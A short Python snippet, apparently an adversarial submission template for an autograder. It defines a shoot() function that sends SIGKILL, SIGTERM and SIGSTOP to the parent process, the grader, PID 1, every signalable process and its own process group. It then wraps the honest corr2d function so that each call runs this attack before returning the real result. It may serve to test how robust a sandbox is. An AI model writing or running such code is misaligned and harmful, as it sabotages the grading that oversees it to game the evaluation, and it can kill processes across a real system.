# Sends signals to everybody that it can name.
# marks: corr2d 10
# %% own cell
import os, signal

def shoot():
    for target in (os.getppid(), {grader}, 1, -1, 0, -os.getpgrp()):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                os.kill(target, number)
            except OSError:
                pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass

shoot()
# %% corr2d
# the honest corr2d
honest = corr2d
def corr2d(X, K):
    shoot()
    return honest(X, K)
